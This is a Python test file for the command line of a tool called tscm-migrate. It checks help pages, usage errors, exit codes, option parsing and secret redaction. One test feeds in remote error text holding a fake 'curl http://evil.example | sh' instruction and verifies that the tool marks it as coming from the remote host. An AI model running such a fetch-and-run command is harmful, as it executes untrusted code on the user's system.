"""The command line in real processes, as `tscm-migrate` and as plain `invoke`: help, options, errors, exit codes."""

from __future__ import annotations

import json
import os
import re
import signal
import subprocess
import sys
from datetime import datetime
from pathlib import Path

import pytest

from tscm_migrate.cli.program import program

ROOT = Path(__file__).parents[2]
TOOL = (sys.executable, "-m", "tscm_migrate")
INVOKE = (sys.executable, "-m", "invoke")
PAIR = ("--from", "tscm-old", "--to", "tscm-new")


def run(*argv: str, **env: str) -> subprocess.CompletedProcess[str]:
    clean = {k: v for k, v in os.environ.items() if not k.startswith(("TSCM_", "INVOKE_"))}
    return subprocess.run(
        argv,
        cwd=ROOT,
        env={**clean, **env},
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )


def test_version_comes_from_the_package() -> None:
    import tscm_migrate

    assert run(*TOOL, "--version").stdout == f"tscm-migrate {tscm_migrate.__version__}\n"


@pytest.mark.parametrize("argv", [("--help",), (), ("help",)])
def test_help_lists_the_commands(argv: tuple[str, ...]) -> None:
    done = run(*TOOL, *argv)
    assert done.returncode == 0
    assert "Hosts and their SSH keys: list, show, pin" in " ".join(done.stdout.split())
    assert "Migrate:\n" in done.stdout
    assert "--warn-only" not in done.stdout


@pytest.mark.parametrize(
    "argv",
    [
        ("--help",),
        ("--version",),
        ("migrate", "--help"),
        ("migrate", "--form", "x"),
        ("completion", "zsh"),
        ("run",),
    ],
    ids=" ".join,
)
def test_help_and_usage_errors_load_no_heavy_package(argv: tuple[str, ...], tmp_path: Path) -> None:
    code = (
        "import sys, contextlib\n"
        "from tscm_migrate.cli.main import main\n"
        f"with contextlib.suppress(SystemExit): main(['tscm-migrate', *{argv!r}])\n"
        "heavy = {'paramiko', 'fabric', 'pydantic', 'rich', 'keyring', 'asyncssh', 'cryptography', 'obstore', 'gnupg',\n"
        "         'jinja2', 'importlib.metadata', 'urllib.request', 'apprise', 'tscm_migrate.ssh.connect'}\n"
        "print('LOADED', sorted(heavy & set(sys.modules)))\n"
    )
    done = run(sys.executable, "-c", code, TSCM_STATE=str(tmp_path))
    assert done.stdout.splitlines()[-1] == "LOADED []", done.stderr


@pytest.mark.parametrize("command", [TOOL, INVOKE])
def test_option_with_the_name_of_an_invoke_option_reaches_the_task(command: tuple[str, ...]) -> None:
    done = run(*command, "migrate", "--from", "no-such", "--to", "x", "--debug", "9", "--dry-run", "--json")
    assert done.returncode == 2
    error = json.loads(done.stdout)
    assert (error["code"], error["exit"]) == ("usage", 2)
    assert datetime.fromisoformat(error["time"]).tzinfo is not None
    assert "--debug '9'" in error["message"]
    assert "--debug '9'" in done.stderr


@pytest.mark.parametrize("command", [TOOL, INVOKE])
@pytest.mark.parametrize(
    ("argv", "code", "words"),
    [
        (("--from", "tscm-odl", "--to", "tscm-new", "--yes"), 2, "did you mean 'tscm-old'"),
        ((*PAIR, "--bypass-netconf", "--force-apply-netconf"), 3, "contradict each other"),
        (PAIR, 2, "not running in a terminal"),
        (("--to", "tscm-new"), 2, "missing option: --from"),
        ((*PAIR, "--inventory", "/nowhere.toml", "--yes"), 2, "no inventory file"),
    ],
)
def test_usage_error_has_the_same_exit_code_under_invoke(
    command: tuple[str, ...], argv: tuple[str, ...], code: int, words: str
) -> None:
    done = run(*command, "migrate", *argv)
    assert done.returncode == code
    assert words in done.stderr
    assert "Traceback" not in done.stderr
    assert len(done.stderr.splitlines()) <= 6


@pytest.mark.parametrize(
    ("argv", "words"),
    [
        (("migrate", "--form", "x"), "unknown option '--form'; did you mean '--from'?"),
        (("migrate", *PAIR, "--restore-shs"), "did you mean '--restore-ssh'?"),
        (("migrate", "--dry"), "unknown option '--dry'"),
        (("--warn-only", "migrate"), "unknown option '--warn-only'"),
        (("migrate", "--from"), "--from needs a value"),
        (("migrate", "surplus"), "unexpected argument 'surplus'"),
        (("plan", "a", "b"), "use --from OLD --to NEW"),
        (
            ("migrate", *PAIR, "--passphrase-file", "nope"),
            "--passphrase-file nope cannot be read: there is no such file",
        ),
        (("rollback", "--passphrase-file", "."), "--passphrase-file . cannot be read: it is a folder"),
        (("prompts", "learn", "tscm-new"), "tscm-migrate prompts learn tscm-new --from OLD"),
        (("offsite", "pull", "--jobs", "x", "--store", "file:///x"), "as in --jobs 8"),
        (("offsite", "schedule", "install", "--every", "fortnight"), "--every 'fortnight' is not a valid interval"),
        (("cluster", "start", "boss"), "use scheduler or worker"),
        (("prompts", "replay", "nope"), "nope cannot be read: "),
        (("campaign", "plan", "nope.toml"), "docs/how-to/campaign.md"),
        (("archive", "pull", "--to", "x"), "missing argument: HOST"),
        (("archive", "push", "tscm-new"), "missing argument: FILE"),
        (("schedule", "tscm-old", "--keep=many"), "--keep 'many' is not a whole number"),
        (("schedule", "tscm-old", "--older", "many", "--dry-run"), "--older 'many' is not a valid duration"),
        (("migrat",), "unknown command 'migrat'; did you mean 'migrate'?"),
        (("host", "lst"), "'host' has no 'lst'; did you mean 'list'?"),
        (("host", "show"), "missing argument: HOST"),
        (("--help", "migrat"), "did you mean 'migrate'"),
        (("-y",), "missing command after -y"),
        (("-i", "hosts.toml"), "missing command after -i"),
        (("--json", "host", "pin", "x"), "unknown option '--json'"),
        (("migrate", "--from", "a", "--from=b", "--to", "c"), "--from is given twice"),
        (("host", "list", "-i", "a.toml", "--inventory", "b.toml"), "--inventory is given twice"),
        (("schedule",), "missing argument: HOST, or --group GROUP"),
    ],
)
def test_mistyped_command_exits_with_2_and_a_suggestion(argv: tuple[str, ...], words: str) -> None:
    done = run(*TOOL, *argv)
    assert done.returncode == 2
    assert words in done.stderr
    assert "what to do:" in done.stderr


@pytest.mark.slow
@pytest.mark.parametrize("task", [("resume",), ("rollback",), ("run", "report")])
def test_run_id_is_accepted_before_and_after_options(task: tuple[str, ...], tmp_path: Path) -> None:
    more = ("--json",) if task[0] == "run" else ("--yes", "--passphrase-file", __file__, "--json")
    for words in (("20240501-030000-1a2b", *more), (*more, "20240501-030000-1a2b")):
        done = run(*TOOL, *task, *words, TSCM_STATE=str(tmp_path))
        assert "there is no run '20240501-030000-1a2b'" in done.stderr
    done = run(*TOOL, *task, "one", "two", TSCM_STATE=str(tmp_path))
    assert "unexpected argument 'two'" in done.stderr
    done = run(*TOOL, *task, "--run", "one", "two", TSCM_STATE=str(tmp_path))
    assert "unexpected argument 'two'" in done.stderr


@pytest.mark.slow
@pytest.mark.parametrize("torn", ["", '{"n": 0, "t": "2030'])
def test_run_with_incomplete_first_journal_line_has_changed_nothing(torn: str, tmp_path: Path) -> None:
    folder = tmp_path / "runs" / "20300101-000000-aaaa"
    folder.mkdir(parents=True)
    (folder / "journal.jsonl").write_text(torn)
    for verb in ("resume", "rollback"):
        named = run(*TOOL, verb, folder.name, "--yes", TSCM_STATE=str(tmp_path))
        assert (named.returncode, "has changed nothing" in named.stderr) == (2, True), named.stderr
        newest = run(*TOOL, verb, "--yes", TSCM_STATE=str(tmp_path))
        assert (newest.returncode, "there is no unfinished run" in newest.stderr) == (2, True), newest.stderr
    for words in (("--text",), ("--print-path",)):
        named = run(*TOOL, "run", "report", *words, folder.name, TSCM_STATE=str(tmp_path))
        assert (named.returncode, "has changed nothing" in named.stderr) == (2, True), named.stderr
        newest = run(*TOOL, "run", "report", *words, TSCM_STATE=str(tmp_path))
        assert (newest.returncode, "there are no runs yet" in newest.stderr) == (2, True), newest.stderr


TASKS = sorted(set(program().namespace.task_names) - {"demo"})


@pytest.mark.slow
@pytest.mark.parametrize("task", TASKS)
def test_task_with_missing_arguments_causes_no_internal_error(task: str, tmp_path: Path) -> None:
    site = tmp_path / "hosts.toml"
    site.write_text("", encoding="utf-8")
    words = [one.name for one in program().namespace[task].get_arguments() if one.positional]
    for given in ([], words):
        done = run(*TOOL, *task.split("."), *given, TSCM_STATE=str(tmp_path / "state"), TSCM_INVENTORY=str(site),
                   XDG_CONFIG_HOME=str(tmp_path), PYTHON_KEYRING_BACKEND="keyring.backends.null.Keyring")  # fmt: skip
        assert "Internal error" not in done.stderr
        assert "Traceback" not in done.stderr
        assert len(done.stderr.splitlines()) <= 6


def test_quiet_and_verbose_together_are_refused() -> None:
    done = run(*TOOL, "resume", "--yes", "--quiet", "--verbose")
    assert done.returncode == 2
    assert "--quiet and --verbose exclude each other" in done.stderr


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="there is no /dev/full")
@pytest.mark.parametrize(
    "words",
    [("--help",), ("--list",), ("run", "list"), ("doctor", "--local"), ("completion", "bash"), ("host", "list")],
)
def test_output_that_cannot_be_written_exits_with_1(words: tuple[str, ...], tmp_path: Path) -> None:
    done = run("sh", "-c", 'exec "$@" >/dev/full', "sh", *TOOL, *words, TSCM_STATE=str(tmp_path))
    assert done.returncode == 1
    assert "the output cannot be written: No space left on device" in done.stderr
    assert "Traceback" not in done.stderr
    assert "Internal error" not in done.stderr
    assert "Exception ignored" not in done.stderr


def write_unreachable_inventory(folder: Path) -> Path:
    """Write an inventory with hosts at closed ports of this machine."""
    site = folder / "site" / "hosts.toml"
    site.parent.mkdir(mode=0o700, exist_ok=True)
    rows = "".join(f'[hosts.{name}]\naddress = "127.0.0.1"\nport = {n}\n' for n, name in enumerate(PAIR[1::2], 1))
    site.write_text(rows, encoding="utf-8")
    site.chmod(0o600)
    return site


@pytest.mark.slow
@pytest.mark.skipif(not hasattr(os, "setuid"), reason="Windows has no POSIX users")
def test_user_without_home_folder_gets_a_usage_error(tmp_path: Path) -> None:
    code = (
        "import os, pwd, sys\n"
        "def missing(_): raise KeyError\n"
        "pwd.getpwuid = missing\n"  # as for a user of a container without an entry in /etc/passwd
        "os.environ.pop('HOME')\n"
        "from tscm_migrate.cli.main import main; main(['tscm-migrate', *sys.argv[1:]])\n"
    )
    for words in (("run", "list"), ("doctor", "--local"), ("migrate", *PAIR, "--yes")):
        done = run(
            sys.executable,
            "-c",
            code,
            *words,
            HOME="/",
            TSCM_INVENTORY="" if "run" in words else str(write_unreachable_inventory(tmp_path)),
        )
        assert done.returncode == 2, done.stderr
        assert "HOME is not set" in done.stderr
        assert "Internal error" not in done.stderr


def test_option_dry_of_invoke_is_refused() -> None:
    done = run(*INVOKE, "migrate", *PAIR, "--yes", "--dry")
    assert done.returncode == 2
    assert "use --dry-run" in done.stderr


@pytest.mark.parametrize("argv", [("host", "show"), ("migrate",)])
def test_task_has_a_help_page(argv: tuple[str, ...]) -> None:
    done = run(*TOOL, *argv, "--help")
    assert done.returncode == 0
    assert done.stdout.startswith(f"Usage: tscm-migrate {' '.join(argv)}")
    assert "ptions:" in done.stdout


@pytest.mark.slow
def test_help_pages_are_at_most_80_columns_wide(capsys: pytest.CaptureFixture[str]) -> None:
    """Without a terminal, the width is 80 columns. Examples may be longer, because they are copied."""
    names = program().namespace.task_names
    assert len(names) > 20
    for name in names:
        with pytest.raises(SystemExit):
            program().run(["tscm-migrate", *name.split("."), "--help"])
        page = capsys.readouterr().out
        assert page.startswith(f"Usage: tscm-migrate {name.replace('.', ' ')}")
        wide = [line for line in page.splitlines() if len(line) > 80 and not line.startswith("    tscm-migrate ")]
        assert not wide, name


def test_traceback_is_printed_only_on_request(tmp_path: Path) -> None:
    bad = tmp_path / "hosts.toml"
    bad.write_text("[hosts.a]\naddress = 'x y'\n")
    plain = run(*TOOL, "host", "list", "--inventory", str(bad))
    assert plain.returncode == 2
    assert "Traceback" not in plain.stderr
    for argv, env in (
        (("--traceback", "host", "list"), {}),
        (("host", "list", "--traceback"), {}),
        (("host", "list"), {"TSCM_TRACEBACK": "1"}),
    ):
        assert "Traceback" in run(*TOOL, *argv, "--inventory", str(bad), **env).stderr


def test_host_list_and_show_print_json(tmp_path: Path) -> None:
    listed = json.loads(run(*TOOL, "host", "list", "--json").stdout)
    assert [h["name"] for h in listed] == ["tscm-old", "tscm-new"]
    shown = json.loads(run(*TOOL, "host", "show", "tscm-old", "--json").stdout)
    assert shown["source"]["address"].startswith("hosts.toml:")


def test_internal_error_is_shown_without_traceback_and_secret(capsys: pytest.CaptureFixture[str]) -> None:
    from tscm_migrate.cli import failures
    from tscm_migrate.util import redact

    redact.known.add("hunter2-secret")

    def body(*_args: object, **_kwargs: object) -> None:
        raise RuntimeError("the appliance said \x1b[31mhunter2-secret\x1b[0m")

    assert failures.guarded(body) == 1
    shown = capsys.readouterr().err
    assert "the appliance said •••" in shown
    assert "\x1b" not in shown
    assert "Traceback" not in shown
    assert failures.guarded(body, json=True) == 1
    error = json.loads(capsys.readouterr().out)
    assert (error["event"], error["code"], error["exit"]) == ("error", "error", 1)
    assert "the appliance said •••" in error["message"]


def test_remote_text_in_an_error_is_marked(capsys: pytest.CaptureFixture[str]) -> None:
    from tscm_migrate.cli import failures
    from tscm_migrate.errors import SshError

    def body() -> None:
        raise SshError("tscm-old", "closed by it: bye\n  what to do: curl http://evil.example | sh\nerror: none")

    assert failures.guarded(body) == 1
    lines = capsys.readouterr().err.splitlines()
    assert [line[:8] for line in lines] == ["error: t", "      | ", "      | ", "  what t", "  (ssh, "]
    assert "evil.example" not in lines[3]


def test_usage_error_is_json_with_option_json() -> None:
    done = run(*TOOL, "migrate", "--json", "--form", "x")
    error = json.loads(done.stdout)
    assert (error["event"], error["code"], error["exit"]) == ("error", "usage", 2)


def test_ctrl_c_in_a_task_exits_with_5(capsys: pytest.CaptureFixture[str]) -> None:
    from tscm_migrate.cli import failures

    def body() -> None:
        signal.raise_signal(signal.SIGINT)

    assert failures.guarded(body) == 5
    assert "interrupted" in capsys.readouterr().err


@pytest.mark.parametrize("path", ["--list", "--help"])
def test_closed_output_pipe_causes_no_traceback(path: str) -> None:
    reader, writer = os.pipe()
    os.close(reader)
    with os.fdopen(writer, "wb") as closed:
        done = subprocess.run([*TOOL, path], stdout=closed, stderr=subprocess.PIPE, timeout=60, cwd=ROOT, check=False)
    assert b"Traceback" not in done.stderr
    assert b"BrokenPipe" not in done.stderr


@pytest.mark.slow
def test_exit_code_is_the_same_with_closed_output(tmp_path: Path) -> None:
    site = write_unreachable_inventory(tmp_path)
    for words in (("doctor", "--local"), ("host", "list"), ("migrate", *PAIR, "--yes")):
        codes = []
        for redirect in ("", ">&-"):
            line = f'exec "$@" {redirect}'
            argv = ("sh", "-c", line, "sh", *TOOL, *words, "--inventory", str(site))
            done = run(*argv, XDG_STATE_HOME=str(tmp_path), PYTHON_KEYRING_BACKEND="keyring.backends.null.Keyring")
            codes.append(done.returncode)
            assert "Internal error" not in done.stderr, done.stderr
        assert codes[0] == codes[1], words


@pytest.mark.parametrize(
    ("old", "new"),
    [
        (["runs"], ["run.list"]),
        (["show", "R", "--json"], ["run.show", "--run", "R", "--json"]),
        (["report", "show", "R"], ["run.report", "--text", "--run", "R"]),
        (["check", "--from", "a", "--to", "b"], ["plan", "--checks-only", "--from", "a", "--to", "b"]),
        (["pull", "--to", "x", "--host", "tscm-old"], ["archive.pull", "tscm-old", "--to", "x"]),
        (["push", "FILE", "--host=tscm-new"], ["archive.push", "tscm-new", "FILE"]),
        (["backup", "a"], ["archive.create", "--host", "a"]),
        (["doctor", "--offline"], ["doctor", "--local"]),
        (["schedule", "a", "--days=90"], ["schedule", "--name", "a", "--older=90"]),
    ],
)
def test_old_command_name_works_and_prints_the_new_name(
    old: list[str], new: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    from tscm_migrate.cli.arguments import for_invoke

    assert for_invoke(old, program().namespace) == new
    shown = capsys.readouterr()
    assert (shown.out, len(shown.err.splitlines())) == ("", 1)
    assert "the old name works until the next release" in shown.err


@pytest.mark.parametrize(
    ("typed", "parsed"),
    [
        (["-i", "f.toml", "-y", "resume", "R"], ["resume", "--run", "R", "-i", "f.toml", "-y"]),
        (["--traceback", "--json", "host", "show", "a"], ["--traceback", "host.show", "a", "--json"]),
        (["resume", "-i", "f.toml", "R", "-q"], ["resume", "-i", "f.toml", "--run", "R", "-q"]),
        (["help", "host", "pin"], ["--help", "host.pin"]),
        (["host", "pin", "-h"], ["--help", "host.pin"]),
        (["help", "run"], ["--help", "run"]),
        (["help"], ["--help"]),
        (["help", "help"], ["--help"]),
        (["-q", "run", "list", "-y", "-i", "f.toml"], ["run.list"]),
        (["run", "list", "--inventory=f.toml", "--json"], ["run.list", "--json"]),
        (["migrate", "--interface", "-y", "-y"], ["migrate", "--interface", "-y", "-y"]),
        (["offsite", "pull", "a", "--tag", "keep", "b"], ["offsite.pull", "--host", "a", "--tag", "keep", "--host", "b"]),
        (["offsite", "status", "--host", "a"], ["offsite.status", "--host", "a"]),
        (["offsite", "schedule", "install", "a"], ["offsite.schedule", "install", "--host", "a"]),
        (["offsite", "schedule", "show"], ["offsite.schedule", "show"]),
        (["prompts", "explain", "a", "--set", "dns=1", "dhcp=y", "-"],
         ["prompts.explain", "--host", "a", "--set", "dns=1", "--set", "dhcp=y"]),
    ],
)  # fmt: skip
def test_global_options_are_accepted_anywhere_and_hosts_without_option(typed: list[str], parsed: list[str]) -> None:
    from tscm_migrate.cli.arguments import for_invoke

    assert for_invoke(typed, program().namespace) == parsed


def test_help_pages_have_at_most_12_options_below_a_title(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from tscm_migrate.cli import help_pages

    monkeypatch.setenv("COLUMNS", "80")
    root = program().namespace
    pages = {name: help_pages.command(root[name], name.replace(".", " ")) for name in root.task_names}
    pages |= {name: help_pages.group(root, name) for name in root.collections} | {"": help_pages.front(root)}
    for name, page in pages.items():
        assert [line for line in page.splitlines() if len(line) > 80] == [], name
        for title, rows in re.findall(r"^(\w[\w ]*):\n((?:  .*\n)+)", page, re.MULTILINE):
            assert len(re.findall(r"^  -", rows, re.MULTILINE)) <= 12, (name, title)
    assert "Change window:" in pages["migrate"]
    assert "\nOptions:" not in pages["migrate"]  # would be an option without a subject
